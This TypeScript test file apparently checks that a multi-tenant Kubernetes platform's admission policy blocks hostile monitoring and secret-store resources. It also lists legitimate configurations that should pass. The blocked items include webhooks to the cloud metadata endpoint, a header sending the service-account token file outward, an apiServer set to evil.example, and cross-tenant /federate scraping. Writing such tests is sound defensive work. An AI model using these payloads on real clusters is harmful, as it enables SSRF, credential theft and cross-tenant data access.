import { type Attempt, core, group, mergePatch, on, post } from "./attempt.ts";
import { HOMES, type Kind, SOVEREIGN_SERVICE } from "./destination.ts";
import { named, SOVEREIGN_POD_ADDRESS } from "./object.ts";

const MONITORING = "monitoring.coreos.com";
const ALERTS: Kind = [`${MONITORING}/v1alpha1`, "alertmanagerconfigs", "AlertmanagerConfig"];
const PROBE: Kind = [`${MONITORING}/v1`, "probes", "Probe"];
const PROMETHEUS: Kind = [`${MONITORING}/v1`, "prometheuses", "Prometheus"];
const AGENT: Kind = [`${MONITORING}/v1alpha1`, "prometheusagents", "PrometheusAgent"];
const ALERTMANAGER: Kind = [`${MONITORING}/v1`, "alertmanagers", "Alertmanager"];
const RULER: Kind = [`${MONITORING}/v1`, "thanosrulers", "ThanosRuler"];
const SCRAPE: Kind = [`${MONITORING}/v1`, "scrapeconfigs", "ScrapeConfig"];
const ISSUER: Kind = ["cert-manager.io/v1", "issuers", "Issuer"];
const STORE: Kind = ["external-secrets.io/v1", "secretstores", "SecretStore"];

const CALLED = "ingress-annotation";
const ADDRESSED = "service-address";
const TARGET = `http://${SOVEREIGN_SERVICE}:8085/billing/webhook`;
const receiver = (member: string, config: object) => ({
  route: { receiver: "mine" },
  receivers: [{ name: "mine", [member]: [config] }],
});
const url = "https://hooks.acme.example/alerts";
const SELECTS_ALL = {};

/** Ways to have the platform's Alertmanager or the operator of Prometheus reach what their author cannot. */
const ATTEMPTS: readonly [title: string, kind: Kind, spec: object, expected?: Attempt["expected"]][] = [
  ["sends alerts to a Sovereign by a webhook", ALERTS, receiver("webhookConfigs", { url: TARGET })],
  [
    "sends alerts to the operator by a webhook",
    ALERTS,
    receiver("webhookConfigs", { url: "https://catalyst-operator-webhook.catalyst-system.svc/admit" }),
  ],
  [
    "sends alerts to a Sovereign in place of PagerDuty",
    ALERTS,
    receiver("pagerdutyConfigs", { url: TARGET }),
  ],
  [
    "sends alerts to a Sovereign in place of OpsGenie",
    ALERTS,
    receiver("opsgenieConfigs", { apiURL: TARGET }),
  ],
  [
    "sends alerts to a Sovereign in place of VictorOps",
    ALERTS,
    receiver("victoropsConfigs", { apiUrl: TARGET, routingKey: "a" }),
  ],
  [
    "sends alerts to a Sovereign as a relay of mail",
    ALERTS,
    receiver("emailConfigs", { to: "a@acme.example", smarthost: `${SOVEREIGN_SERVICE}:8085` }),
  ],
  [
    "sends alerts through a Sovereign as a proxy of Slack",
    ALERTS,
    receiver("slackConfigs", {
      apiURL: { name: "slack", key: "url" },
      httpConfig: { proxyURL: `http://${SOVEREIGN_SERVICE}:8085` },
    }),
  ],
  [
    "sends alerts to a host that an alert names",
    ALERTS,
    receiver("webhookConfigs", { url: "http://{{ .CommonLabels.host }}/x" }),
  ],
  [
    "sends alerts to the metadata of the node",
    ALERTS,
    receiver("webhookConfigs", { url: "http://169.254.169.254/latest/api/token" }),
  ],
  [
    "sends the token of Alertmanager to itself",
    ALERTS,
    receiver("webhookConfigs", {
      url,
      httpConfig: {
        httpHeaders: { name: "X-Token", files: ["/var/run/secrets/kubernetes.io/serviceaccount/token"] },
      },
    }),
  ],
  [
    "sends a file of Alertmanager in place of a token",
    ALERTS,
    receiver("telegramConfigs", { apiURL: url, botTokenFile: "/etc/alertmanager/config/a", chatID: 7 }),
  ],
  [
    "sends alerts to a Sovereign's Pod by its address",
    ALERTS,
    receiver("webhookConfigs", { url: `http://${SOVEREIGN_POD_ADDRESS}:8085/` }),
    ADDRESSED,
  ],
  [
    "probes a Sovereign's Pod by its address",
    PROBE,
    { targets: { staticConfig: { static: [`http://${SOVEREIGN_POD_ADDRESS}:8085/metrics`] } } },
    ADDRESSED,
  ],
  [
    "reads a Sovereign's metrics by a Probe that names it as the exporter",
    PROBE,
    { prober: { url: `${SOVEREIGN_SERVICE}:8085`, path: "/metrics" }, targets: {} },
  ],
  [
    "reads a Sovereign's metrics by a Probe that names its Pod as the exporter",
    PROBE,
    { prober: { url: `${SOVEREIGN_POD_ADDRESS}:8085`, path: "/metrics" }, targets: {} },
    ADDRESSED,
  ],
  [
    "reads the metrics of all tenants from the platform's Prometheus by a Probe",
    PROBE,
    { prober: { url: "prometheus.monitoring.svc:9090", path: "/federate" }, targets: {} },
  ],
  [
    "reads the metrics of all tenants by a Probe whose relabeling sets the path",
    PROBE,
    {
      prober: { url: "prometheus.monitoring.svc:9090" },
      targets: {
        staticConfig: {
          static: ["up"],
          relabelingConfigs: [{ targetLabel: "__metrics_path__", replacement: "/federate" }],
        },
      },
    },
  ],
  [
    "reads the metrics of all tenants by a Probe whose label sets the path",
    PROBE,
    {
      prober: { url: "prometheus.monitoring.svc:9090" },
      targets: { staticConfig: { static: ["up"], labels: { __metrics_path__: "/federate" } } },
    },
  ],
  [
    "probes a Sovereign that a relabeling sets as the target",
    PROBE,
    {
      prober: { url: "blackbox.monitoring.svc:9115" },
      targets: {
        staticConfig: {
          static: ["acme.example"],
          relabelingConfigs: [{ targetLabel: "__param_target", replacement: TARGET }],
        },
      },
    },
  ],
  [
    "has the platform's exporter called through an address as a proxy",
    PROBE,
    { prober: { url: "blackbox.monitoring.svc", proxyUrl: "http://10.0.0.1" }, targets: {} },
  ],
  [
    "has a Sovereign called by a template of a host",
    STORE,
    { provider: { delinea: { urlTemplate: "http://%s.svc:8085/", tenant: "billing.sovereign" } } },
  ],
  [
    "has a server of its own name what Prometheus reads",
    SCRAPE,
    {
      kubernetesSDConfigs: [
        { role: "Pod", apiServer: "https://evil.example", namespaces: { ownNamespace: true } },
      ],
    },
  ],
  [
    "reads the metrics of nodes",
    SCRAPE,
    { kubernetesSDConfigs: [{ role: "Node", namespaces: { ownNamespace: true } }] },
  ],
  [
    "has a Sovereign called as a password manager",
    STORE,
    { provider: { onepassword: { connectHost: `http://${SOVEREIGN_SERVICE}:8085`, vaults: { a: 1 } } } },
  ],
  [
    "has a Sovereign called as an authority",
    ISSUER,
    { venafi: { zone: "a", tpp: { url: `https://${SOVEREIGN_SERVICE}:8085/vedsdk` } } },
  ],
  [
    "has a Sovereign's Pod called as a vault by its address",
    STORE,
    { provider: { vault: { server: `http://${SOVEREIGN_POD_ADDRESS}:8085` } } },
    ADDRESSED,
  ],
  [
    "copies the passwords of all monitors by a Prometheus",
    PROMETHEUS,
    { serviceMonitorSelector: SELECTS_ALL, serviceMonitorNamespaceSelector: SELECTS_ALL },
  ],
  [
    "copies the passwords of a Sovereign's monitors by an agent",
    AGENT,
    { podMonitorNamespaceSelector: { matchLabels: { "catalyst.openova.io/sovereign": "omantel" } } },
  ],
  [
    "copies the secrets of all receivers by an Alertmanager",
    ALERTMANAGER,
    { alertmanagerConfigSelector: SELECTS_ALL, alertmanagerConfigNamespaceSelector: SELECTS_ALL },
  ],
  ["copies the rules of all namespaces by a ruler", RULER, { ruleNamespaceSelector: SELECTS_ALL }],
];

const OWN: readonly [title: string, kind: Kind, spec: (at: string) => object][] = [
  [
    "sends alerts to Slack, PagerDuty and its own Service",
    ALERTS,
    (at) => ({
      route: { receiver: "team" },
      receivers: [
        {
          name: "team",
          slackConfigs: [
            {
              apiURL: { name: "slack", key: "url" },
              channel: "#shop",
              titleLink: "https://grafana.acme.example",
              actions: [{ type: "button", text: "Runbook", url: "https://runbooks.acme.example" }],
            },
          ],
          pagerdutyConfigs: [
            { routingKey: { name: "pagerduty", key: "key" }, clientURL: "{{ .ExternalURL }}" },
          ],
          webhookConfigs: [{ url: `http://app.${at}.svc:8080/alerts` }, { url }],
        },
      ],
    }),
  ],
  [
    "sends alerts by mail through a relay outside the cluster",
    ALERTS,
    () => receiver("emailConfigs", { to: "ops@acme.example", smarthost: "198.51.100.25:587" }),
  ],
  [
    "sends alerts to SNS by a profile",
    ALERTS,
    () => receiver("snsConfigs", { sigv4: { profile: "alerts" }, topicARN: "arn:aws:sns:me-central-1:1:a" }),
  ],
  [
    "runs a Prometheus of its own for its own namespace",
    PROMETHEUS,
    (at) => ({
      serviceMonitorSelector: {},
      podMonitorNamespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": at } },
    }),
  ],
  [
    "keeps its secrets in a product outside the cluster",
    STORE,
    () => ({ provider: { onepassword: { connectHost: "https://connect.acme.example", vaults: { a: 1 } } } }),
  ],
  ["runs an Alertmanager of its own", ALERTMANAGER, () => ({ alertmanagerConfigSelector: {} })],
];

export const ALERT_ATTEMPTS: readonly Attempt[] = HOMES.flatMap(([by, at]) => [
  ...ATTEMPTS.map(([title, [version, plural, kind], spec, expected = CALLED]) =>
    on(
      `${title} in ${at}`,
      by,
      post(group(version, at, plural), named(version, kind, "evil", { spec })),
      expected,
    ),
  ),
  // A kube-apiserver completes `podIPs` from `podIP` before it calls admission. The embedded API server does not.
  on(
    `forges the first address of its Pod alone in ${at}`,
    by,
    mergePatch(core(at, "pods/app-0/status"), { status: { podIP: SOVEREIGN_POD_ADDRESS } }),
    at === "shop" ? ADDRESSED : ["pod-status", ADDRESSED],
  ),
]);

export const ALLOWED_ALERT: readonly Attempt[] = [
  // Nothing sends traffic to this address.
  on(
    "says on which node its Pod runs",
    "stranger",
    mergePatch(core("shop", "pods/app-0/status"), { status: { hostIP: "198.51.100.9" } }),
    "allowed",
  ),
  ...HOMES.flatMap(([by, at]) =>
    OWN.map(([title, [version, plural, kind], spec], index) =>
      on(
        `${title} in ${at}`,
        by,
        post(group(version, at, plural), named(version, kind, `alerts-${index}`, { spec: spec(at) })),
        "allowed",
      ),
    ),
  ),
];
